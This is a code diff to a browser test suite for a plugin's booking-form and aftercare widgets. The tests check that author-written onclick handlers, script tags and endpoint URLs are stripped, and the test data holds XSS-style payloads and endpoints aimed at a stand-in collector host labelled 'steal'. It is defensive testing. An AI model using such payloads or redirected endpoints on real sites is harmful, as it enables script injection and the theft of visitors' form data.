@@ -167,12 +167,13 @@ try {
     title: 'Author widgets',
     content: [
       shortcodes,
-      `[mn_booking_form clinic-name='${INJECT}' onclick="window.__pwned=2" endpoint="javascript:window.__pwned=3"]`,
-      `<mn-booking-form clinic-name="Raw element" onclick="window.__pwned=4"></mn-booking-form>`,
+      `[mn_booking_form clinic-name='${INJECT}' onclick="window.__pwned=2" endpoint="https://collector.example/steal"]`,
+      `<mn-booking-form clinic-name="Raw element" onclick="window.__pwned=4" endpoint="https://collector.example/raw"></mn-booking-form>`,
       `<script>window.__pwned=5</script>`,
     ].join('\n\n'),
     status: 'publish',
   });
+  const urlPage = await api('pages', 'admin', { title: 'Admin URL', content: '[mn_aftercare_timeline booking-url="https://clinic.example/book" treated-at="2026-11-01"]', status: 'publish' });
   const plainPage = await api('pages', 'admin', { title: 'No widgets', content: '<p>Nothing here.</p>', status: 'publish' });
 
   const visit = async (link, ctx) => {
@@ -263,12 +264,20 @@ try {
     const injected = forms.find((f) => f.attrs['clinic-name'] === INJECT);
     assert(injected, `the injected value is not kept as plain text: ${JSON.stringify(forms.map((f) => f.attrs))}`);
     assert(!('onmouseover' in injected.attrs) && !('onclick' in injected.attrs), 'event handler attribute survived');
-    assert(!injected.attrs.endpoint?.startsWith('javascript:') || injected.notices.length > 0, 'javascript: endpoint accepted silently');
+    assert(!('endpoint' in injected.attrs), `an author set the endpoint: ${injected.attrs.endpoint}`);
     const raw = forms.find((f) => f.attrs['clinic-name'] === 'Raw element');
     assert(raw, 'a raw <mn-booking-form> written by the author was stripped');
     assert(!('onclick' in raw.attrs), 'onclick survived kses');
+    assert(!('endpoint' in raw.attrs), 'an author set the endpoint in HTML');
     eq(await v.page.evaluate(() => window.__pwned), undefined, 'window.__pwned');
     eq(await scripts(v.page), ['head'], 'script once');
+    await v.close();
+  });
+
+  await check('an administrator may set URL attributes (authors may not, above)', async () => {
+    const v = await visit(urlPage.link);
+    const w = (await widgetState(v.page))['mn-aftercare-timeline'];
+    eq(w?.[0]?.attrs['booking-url'], 'https://clinic.example/book', 'booking-url');
     await v.close();
   });
 
